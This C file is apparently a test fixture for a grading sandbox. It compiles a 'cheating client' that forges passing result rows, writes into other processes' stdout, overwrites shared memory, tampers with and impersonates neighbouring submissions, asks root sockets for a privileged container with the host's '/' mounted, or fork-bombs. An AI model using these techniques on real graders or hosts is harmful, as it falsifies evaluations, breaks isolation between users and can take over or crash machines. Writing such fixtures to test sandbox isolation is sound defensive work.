/*
 * A cheating client for RoomTest's batch of cheats (tcp-client-whole-reply): it reads the reply once (as one-read.c,
 * which fails whole-reply) and tries to turn its verdict true some other way, chosen when compiled (-DACT=...):
 *   GRADER      the grader's own things: its results file (RESULTS, outside the home), the stdout of every process it
 *               can see (/proc/PID/fd/1: where SocketLab writes the rows), each given a forged row saying it passed;
 *               the grader's SysV segment (SYSV_KEY) and every other segment it can attach, overwritten
 *   NEIGHBOURS  its batch's other submissions: the folders beside its own (SUBMISSION/..), where it leaves a mark, and
 *               their programs, the first of which it runs in its own place (a neighbour's correct client would pass)
 *   HOST        the host's sockets with the grader's groups: SOCKET_3 (a root-owned 0660 socket in /run of the
 *               grader's group, docker.sock's stand-in) and SOCKET_4 (another user's socket in /dev/shm), each asked to
 *               run a command as root
 *   FORK_BOMB   a child forks for ever while it reads (the room ends at its process limit: killed)
 * Each thing it reached is printed; outside, the test sees whether any was. Usage: cheat HOST PORT
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

enum { GRADER = 1, NEIGHBOURS, HOST, FORK_BOMB };

#ifndef RESULTS
#define RESULTS "/none"
#define SYSV_KEY 0
#define SOCKET_3 "/run/none"
#define SOCKET_4 "/dev/shm/none"
#define SUBMISSION "."
#define MARKER "0"
#endif

/* The row SocketLab would have written had it passed (the CSV's columns), forged under the folder's name. */
static void forge_row(int fd, const char *where) {
    const char *name = strrchr(SUBMISSION, '/');
    char row[512];
    int n = snprintf(row, sizeof row, "%s,true,,0,false,1,,4,4\n", name ? name + 1 : SUBMISSION);
    if (write(fd, row, (size_t) n) == n) printf("forged a row into %s\n", where);
}

static void grader(void) {
    int fd = open(RESULTS, O_WRONLY | O_APPEND);
    if (fd >= 0) forge_row(fd, RESULTS), close(fd);
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc && (e = readdir(proc));) {
        if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid()) continue;
        char out[300];
        snprintf(out, sizeof out, "/proc/%s/fd/1", e->d_name);
        struct stat st;
        /* a regular file or a pipe another process writes to: the rows go through one */
        if (stat(out, &st) != 0 || !(S_ISREG(st.st_mode) || S_ISFIFO(st.st_mode))) continue;
        int o = open(out, O_WRONLY | O_APPEND | O_NONBLOCK);
        if (o >= 0) forge_row(o, out), close(o);
    }
    if (proc) closedir(proc);
    int ids[] = {shmget((key_t) SYSV_KEY, 0, 0), -1};
    struct shm_info info;
    int highest = shmctl(0, SHM_INFO, (struct shmid_ds *) &info);
    for (int index = -1; index <= highest; index++) {
        struct shmid_ds ds;
        int id = index < 0 ? ids[0] : shmctl(index, SHM_STAT, &ds);
        if (id < 0) continue;
        char *at = shmat(id, NULL, 0);
        if (at == (void *) -1) continue;
        snprintf(at, 64, "OVERWRITTEN BY A SUBMISSION");
        printf("overwrote SysV segment %d\n", id);
        shmdt(at);
    }
}

static void neighbours(char **argv) {
    DIR *batch = opendir(SUBMISSION "/..");
    const char *own = strrchr(SUBMISSION, '/');
    char other[4096] = "";
    for (struct dirent *e; batch && (e = readdir(batch));) {
        if (e->d_name[0] == '.' || (own && strcmp(e->d_name, own + 1) == 0)) continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/../%s/left-by-a-neighbour-" MARKER, SUBMISSION, e->d_name);
        int fd = open(path, O_WRONLY | O_CREAT, 0644);
        if (fd >= 0) printf("left a mark in %s\n", e->d_name), close(fd);
        snprintf(path, sizeof path, "%s/../%s/client", SUBMISSION, e->d_name);
        if (other[0] == '\0' && access(path, X_OK) == 0) snprintf(other, sizeof other, "%s", path);
    }
    if (batch) closedir(batch);
    if (other[0] != '\0') {
        printf("runs %s in its place\n", other);
        fflush(stdout);
        execv(other, argv);
    }
}

/* Whether the service at PATH took a connection and a command. */
static void ask_host(const char *path) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    if (connect(s, (struct sockaddr *) &a, sizeof a) == 0) {
        const char *ask = "POST /containers/create {\"Privileged\":true,\"Binds\":[\"/:/host\"]}\n";
        (void) !write(s, ask, strlen(ask));
        printf("reached %s\n", path);
    }
    close(s);
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    switch (ACT) {
    case GRADER:
        grader();
        break;
    case NEIGHBOURS:
        neighbours(argv);
        break;
    case HOST:
        ask_host(SOCKET_3);
        ask_host(SOCKET_4);
        break;
    case FORK_BOMB:
        if (fork() == 0)
            for (;;) (void) fork();
        break;
    }
    fflush(stdout);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((unsigned short) atoi(argv[2]))};
    if (s < 0 || inet_pton(AF_INET, argv[1], &addr.sin_addr) != 1) return 2;
    if (connect(s, (struct sockaddr *) &addr, sizeof addr) < 0) return 1;
    if (write(s, "GET everything\n", 15) < 0) return 1;
    shutdown(s, SHUT_WR);
    static char buf[65536];
    ssize_t got = read(s, buf, sizeof buf); /* once: a cheat does not read the whole reply */
    printf("read %zd bytes\n", got);
    close(s);
    return 0;
}
